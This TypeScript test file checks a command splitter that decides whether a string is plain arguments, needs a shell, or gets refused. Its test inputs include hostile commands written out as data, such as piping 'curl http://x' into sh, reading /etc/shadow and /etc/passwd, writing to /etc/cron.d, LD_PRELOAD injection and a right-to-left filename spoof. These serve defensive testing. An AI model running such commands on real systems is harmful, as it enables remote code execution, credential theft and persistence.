import { spawnSync } from "node:child_process"
import fc from "fast-check"
import { expect, test } from "vitest"
import { splitCommand } from "./split.ts"

const words = (command: string) => {
  const line = splitCommand(command)
  return line.type === "argv" ? line.words : line
}

test.each([
  ["ls", ["ls"]],
  ["  ls\t-l   a ", ["ls", "-l", "a"]],
  ["ls\n", ["ls"]],
  [`echo 'a b' "c d" e\\ f`, ["echo", "a b", "c d", "e f"]],
  [`echo '' ""`, ["echo", "", ""]],
  [`echo a'b'"c"d`, ["echo", "abcd"]],
  [`echo '$HOME; rm -rf / | x > y \`z\` *?~!#{}()'`, ["echo", "$HOME; rm -rf / | x > y `z` *?~!#{}()"]],
  [
    `echo "a;b|c&d<e>(f){g}*?~!#" "\\$x" "\\\\" "\\"" "\\a"`,
    ["echo", "a;b|c&d<e>(f){g}*?~!#", "$x", "\\", '"', "\\a"],
  ],
  ["echo \\$HOME \\; \\*", ["echo", "$HOME", ";", "*"]],
  ["echo a#b a~b a=b --x=y", ["echo", "a#b", "a~b", "a=b", "--x=y"]],
  ["echo 'two\nlines'", ["echo", "two\nlines"]],
  ["echo a\\\nb", ["echo", "ab"]],
  ["echo \u00a0 日本 👩‍👩‍👧 é", ["echo", "\u00a0", "日本", "👩‍👩‍👧", "é"]],
  ["'a=b' c", ["a=b", "c"]],
])("%j is plain words", (command, expected) => {
  expect(words(command)).toEqual(expected)
})

test.each([
  "ls && curl http://x|sh",
  "echo $(cat /etc/shadow)",
  "ls\nrm -rf x",
  "echo x > /etc/cron.d/y",
  "ls; rm x",
  "ls | sh",
  "sleep 9 &",
  "cat < /etc/passwd",
  "echo `id`",
  'echo "`id`"',
  'echo "$HOME"',
  "echo $HOME",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what a shell would expand
  "echo ${HOME}",
  "echo {a,b}",
  "echo *.ts",
  "echo a?",
  "echo [ab]",
  "echo ~root",
  "cat --file=~/x",
  "PATH=~:~ x",
  "echo !!",
  "ls # all of it",
  "#!/bin/sh",
  "(ls)",
  "{ ls; }",
  "A=1 ls",
  "LD_PRELOAD=./x.so ls",
  "A+=1 ls",
  "cat <<EOF\nrm\nEOF",
  "echo $'\\x41'",
  "echo $((1+1))",
  "f() { ls; }; f",
  "ls;",
])("%j needs a shell", (command) => {
  expect(splitCommand(command)).toMatchObject({ type: "shell" })
})

test.each([
  ["", "names no program"],
  ["   \n\t ", "names no program"],
  ["'' a", "names no program"],
  ["echo 'a", "not closed"],
  ['echo "a', "not closed"],
  ["echo \\", "ends in a backslash"],
  ["echo \0", "U+0000"],
  ["echo '\u001b[2K'", "U+001B"],
  ["echo \u202egnp.exe", "U+202E"],
  ["echo a\u200bb", "U+200B"],
  ["echo \r\nls", "U+000D"],
  ["echo \ud800", "half a character"],
  [`ls ${String.fromCodePoint(0xe0041)}`, "U+E0041"],
])("%j is refused", (command, message) => {
  expect(splitCommand(command)).toMatchObject({ type: "invalid", message: expect.stringContaining(message) })
})

test("whatever it takes for plain words, a shell reads as the same words", () => {
  const piece = fc.constantFrom(..."ab 'x\"\\\t\n;|&<>$`(){}*?[]~!#=-é日", " ", "'", '"', "\\", "a", "b")
  const commands = fc.sample(fc.array(piece, { maxLength: 14 }), { numRuns: 6_000, seed: 7 })
  const plain = commands.flatMap((pieces) => {
    const command = pieces.join("")
    const line = splitCommand(command)
    return line.type === "argv" ? [{ command, words: line.words }] : []
  })
  expect(plain.length).toBeGreaterThan(300)
  // One shell reads them all: each as the arguments of a function that shows them, framed.
  const show = 'show() { printf \'%s\\0\' "$#" "$@"; }\nset -f\n'
  const script = show + plain.map(({ command }) => `show ${command}\n`).join("")
  const { stdout, stderr } = spawnSync("/bin/sh", ["-s"], { input: script, encoding: "utf8" })
  expect(stderr).toBe("")
  const expected = plain.flatMap((each) => [String(each.words.length), ...each.words])
  expect(stdout.split("\0").slice(0, -1)).toEqual(expected)
})
